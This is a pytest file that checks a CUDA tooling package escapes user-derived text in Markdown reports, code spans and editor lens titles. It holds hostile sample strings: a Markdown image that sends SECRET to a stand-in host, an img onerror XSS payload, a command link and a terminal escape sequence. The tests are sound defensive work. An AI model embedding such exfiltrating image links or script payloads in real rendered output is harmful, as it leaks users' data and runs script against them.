"""Text from user code shown as data: rendered, `plain.md` reads back as the very text."""
import html
import re

import pytest

from astra_cuda import plain, report
from astra_cuda.lsp.views import lens_title

HOSTILE = [
    "![x](https://evil.example/leak?d=SECRET)",
    "[go](command:astra.optimizeKernel?%5B%5D) <https://evil.example> <img src=x onerror=alert(1)>",
    "# heading\n- item\n1. one\n> quote\n```\ncode\n```\n---",
    "*em* __strong__ `code` ~~strike~~ | a | b |\n|---|---|",
    "a\\b \\\\ &amp; &#x41; [ref]: https://evil.example",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_of_hostile_text_is_the_text(text):
    rendered = report.markdown(plain.md(text))
    assert not re.search(r"<(?!/?p>)", rendered), rendered   # no tag but paragraphs
    shown = html.unescape(re.sub(r"</?p>", "", rendered))
    assert " ".join(shown.split()) == " ".join(text.split())


@pytest.mark.parametrize("text", [*HOSTILE, "float /* `![i](https://evil.example/p) ` */ *", "``x", "x`", " x ", "a```b"])
def test_a_code_span_of_hostile_text_is_the_text(text):
    rendered = report.markdown("type " + plain.code(text) + " end")
    assert re.fullmatch(r"<p>type <code>(.*)</code> end</p>\s*", rendered, re.S), rendered  # one span, no other tag
    shown = html.unescape(re.search(r"<code>(.*)</code>", rendered, re.S).group(1))
    assert " ".join(shown.split()) == " ".join(text.split())


def test_controls_and_bidi_are_replaced():
    assert plain.printable("a\x1b]8;;x\x07b\u202ec\td\n") == "a\ufffd]8;;x\ufffdb\ufffdc\td\n"


def test_lens_titles_keep_icons_as_text():
    assert lens_title("Optimizing… $(zap) x") == "Optimizing… \\$(zap) x"
